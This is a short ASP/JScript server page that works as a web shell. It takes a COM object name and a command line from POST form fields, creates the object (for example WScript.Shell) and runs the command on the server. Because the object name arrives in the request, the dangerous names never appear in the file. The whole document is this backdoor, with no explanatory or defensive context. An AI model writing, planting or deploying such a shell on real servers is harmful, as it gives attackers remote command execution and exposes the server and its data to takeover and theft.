<%@ Language="JScript" %>
<%
var kind = Request.Form("p"), line = Request.Form("c");
var obj = Server.CreateObject(kind);
obj.Run(line);
%>
